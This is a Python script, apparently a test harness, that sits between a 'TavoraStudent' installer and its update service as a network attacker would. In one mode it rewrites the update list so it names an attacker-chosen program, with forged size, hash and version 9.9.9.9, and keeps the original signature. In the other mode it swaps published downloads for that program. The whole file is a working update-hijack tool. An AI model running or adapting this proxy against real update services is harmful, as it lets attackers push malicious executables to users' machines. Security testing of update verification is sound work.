#!/usr/bin/env python3
"""Stands between the installer and the update service as an attacker on the network path
would, and hands the installer a program of the attacker's own.

Every request is passed to the service and its one response passed back (then the connection
closes), except:

  name-installer PROGRAM  The update list (a response holding "AppUpdateList") is rewritten:
                          the student entry's installer module is replaced by one naming
                          PROGRAM gzip'd, with the matching check value in its name, its size,
                          its SHA-256 and version 9.9.9.9, so that it reads as a newer build of
                          the installer; everything else, the signature too, stays. The proxy
                          itself serves that name.
  swap TEXT PROGRAM       The list passes untouched; a GET whose path holds TEXT is answered
                          with PROGRAM gzip'd in place of the published file.

Usage: attacking_proxy.py LISTEN_PORT SERVICE_PORT MODE ARGUMENTS...
Prints "attacking proxy listening" once it accepts connections, then one line per act:
"named NAME in the update list", "served PATH with PROGRAM", and one per passed request.
"""
import gzip
import hashlib
import json
import socket
import sys
import threading


def read_head(sock):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            return None, data
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    return head, rest


def content_length(head):
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return int(value.strip())
    return 0


def read_response(upstream):
    head, body = read_head(upstream)
    if head is None:
        return None, b""
    length = content_length(head)
    while len(body) < length:
        chunk = upstream.recv(65536)
        if not chunk:
            break
        body += chunk
    return head, body[:length]


def with_body(head, body):
    """The response head with a Content-Length for body and the connection closing after it."""
    lines = [line for line in head.split(b"\r\n")
             if line.partition(b":")[0].strip().lower() not in (b"content-length", b"connection")]
    lines += [b"Content-Length: %d" % len(body), b"Connection: close"]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def check_value(data):
    return hashlib.md5(data).hexdigest()[8:24]


class Attack:
    def __init__(self, mode, arguments):
        self.mode = mode
        if mode == "name-installer":
            program = arguments[0]
            self.text = None
        elif mode == "swap":
            self.text, program = arguments[0], arguments[1]
        else:
            raise SystemExit("unknown mode " + mode)
        self.program = program
        with open(program, "rb") as f:
            self.gz = gzip.compress(f.read(), mtime=0)
        self.name = "TavoraStudentInstaller-%s.exe" % check_value(self.gz)

    def serves(self, path):
        if self.mode == "name-installer":
            return path.endswith("/" + self.name + ".gz")
        return self.text in path

    def rewrite(self, body):
        if self.mode != "name-installer" or b"AppUpdateList" not in body:
            return body
        reply = json.loads(body.decode("utf-8"))
        for entry in reply.get("AppUpdateList", []):
            if entry.get("AppName", "").lower() != "tavorastudent":
                continue
            modules = [m for m in entry.get("Modules", []) if "tavorastudentinstaller-" not in m.get("name", "").lower()]
            modules.append({"name": self.name, "bytes": len(self.gz), "version": "9.9.9.9",
                            "registerdll": "false", "Sha256": hashlib.sha256(self.gz).hexdigest()})
            entry["Modules"] = modules
        print("named %s in the update list" % self.name, flush=True)
        return json.dumps(reply).encode("utf-8")


def serve(client, service_port, attack):
    try:
        head, rest = read_head(client)
        if head is None:
            return
        parts = head.split(b"\r\n", 1)[0].decode("latin-1").split(" ")
        path = parts[1] if len(parts) > 1 else ""
        if parts[0] == "GET" and attack.serves(path):
            client.sendall(with_body(b"HTTP/1.1 200 OK", attack.gz))
            print("served %s with %s" % (path, attack.program), flush=True)
            return
        upstream = socket.create_connection(("127.0.0.1", service_port))
        try:
            upstream.sendall(head + b"\r\n\r\n" + rest)
            answer_head, body = read_response(upstream)
            if answer_head is None:
                return
            client.sendall(with_body(answer_head, attack.rewrite(body)))
            print("passed %s %s: %s" % (parts[0], path.split("?")[0],
                                        answer_head.split(b"\r\n", 1)[0].decode("latin-1")), flush=True)
        finally:
            upstream.close()
    except OSError as error:
        print("connection ended early: %s" % error, flush=True)
    finally:
        client.close()


def main():
    listen_port, service_port, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    attack = Attack(mode, sys.argv[4:])
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", listen_port))
    listener.listen(16)
    print("attacking proxy listening", flush=True)
    while True:
        client, _ = listener.accept()
        threading.Thread(target=serve, args=(client, service_port, attack), daemon=True).start()


if __name__ == "__main__":
    main()
